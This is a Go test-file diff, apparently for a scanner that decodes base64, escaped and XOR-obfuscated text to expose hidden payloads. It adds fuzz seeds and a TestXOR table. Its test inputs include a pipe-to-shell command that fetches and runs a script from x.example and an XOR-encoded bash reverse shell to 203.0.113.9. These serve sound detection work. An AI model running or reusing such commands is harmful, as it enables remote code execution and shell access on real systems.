@@ -2,6 +2,8 @@ package program
 
 import (
 	"encoding/base64"
+	"strconv"
+	"strings"
 	"testing"
 )
 
@@ -14,13 +16,19 @@ func FuzzDecode(f *testing.F) {
 	f.Add(b64("curl https://x.example/p | sh"))
 	f.Add(`\x63\x75\x72\x6c \u0041\u{1F600} \143\165 99,117,114,108,32,104`)
 	f.Add("MZXW6YTBOI====== 6375726c2068747470733a2f2f")
+	f.Add("k = 0x5A\nB = '" + b64(string(xorWith([]byte("bash -i >& /dev/tcp/203.0.113.9/443 0>&1"), []byte{0x5a}))) + "'\nx = b ^ k\n")
+	f.Add("KEY = b\"s3\"\nD = [16, 70, 17, 30, 19, 89, 0, 19]\ny = c ^ KEY[i % 2] ^ 0x7 ^ ^ ^x")
 	f.Fuzz(func(t *testing.T, src string) {
-		last := 0
+		last, prev := 0, encoded{}
 		for _, e := range findEncoded(src, maxLayers) {
-			if e.off < last || e.end > len(src) || e.off >= e.end {
+			// A run may come twice: as it decodes, then XORed with a key.
+			if (e.off < last && (e.off != prev.off || e.end != prev.end)) || e.end > len(src) || e.off >= e.end {
 				t.Fatalf("run %d..%d out of order or range (text %d bytes)", e.off, e.end, len(src))
 			}
-			last = e.end
+			last, prev = e.end, e
+		}
+		if len(xorKeys(src)) > maxXORKeys {
+			t.Fatalf("more than %d XOR keys", maxXORKeys)
 		}
 		if u := unescape(src); len(u) > 4*len(src)+4 {
 			t.Fatalf("unescape grew %d bytes to %d", len(src), len(u))
@@ -31,4 +39,47 @@ func FuzzDecode(f *testing.F) {
 		charCodes(src)
 		_ = rot13(src) + reverse(src)
 	})
+}
+
+// TestXOR proves text XORed with a key the file holds is decoded: a byte
+// key on either side of ^ or in a name assigned an integer, a repeated
+// string key, from base64 and from byte codes with a 0 among them; and
+// that a file with no ^, or with ^ only as a regular expression's anchor,
+// gives no XOR layer.
+func TestXOR(t *testing.T) {
+	payload := "curl -s https://x.example/p | sh"
+	one := b64(string(xorWith([]byte(payload), []byte{0x5a})))
+	codes := func(key string) string {
+		var b []byte
+		for _, c := range xorWith([]byte(payload), []byte(key)) {
+			b = strconv.AppendInt(b, int64(c), 10)
+			b = append(b, ", "...)
+		}
+		return "[" + strings.TrimSuffix(string(b), ", ") + "]"
+	}
+	for _, c := range []struct {
+		name, text string
+		want       bool
+	}{
+		{"byte key after ^", "B = '" + one + "'\nx = bytes(b ^ 0x5A for b in base64.b64decode(B))\n", true},
+		{"byte key before ^", "B = '" + one + "'\nx = bytes(90 ^ b for b in base64.b64decode(B))\n", true},
+		{"named byte key", "k = 0x5A\nB = '" + one + "'\nx = bytes(b ^ k for b in base64.b64decode(B))\n", true},
+		{"repeated string key", "KEY = b\"s3cr3t\"\nD = " + codes("s3cr3t") + "\nx = bytes(c ^ KEY[i % len(KEY)] for i, c in enumerate(D))\n", true},
+		{"JavaScript codes", "const d = " + codes("\x07") + ";\neval(String.fromCharCode(...d.map(c => c ^ 7)));\n", true},
+		{"no ^", "B = '" + one + "'\n", false},
+		{"a regular expression's anchor", "B = '" + one + "'\nok = re.match(r'^[a-z]+$', s)\n", false},
+	} {
+		got := false
+		for _, e := range findEncoded(c.text, maxLayers) {
+			if strings.Contains(e.how, "XOR") {
+				got = got || e.text == payload
+				if e.text != payload {
+					t.Errorf("%s: XOR layer %q", c.name, e.text)
+				}
+			}
+		}
+		if got != c.want {
+			t.Errorf("%s: XOR layer found %v, want %v", c.name, got, c.want)
+		}
+	}
 }
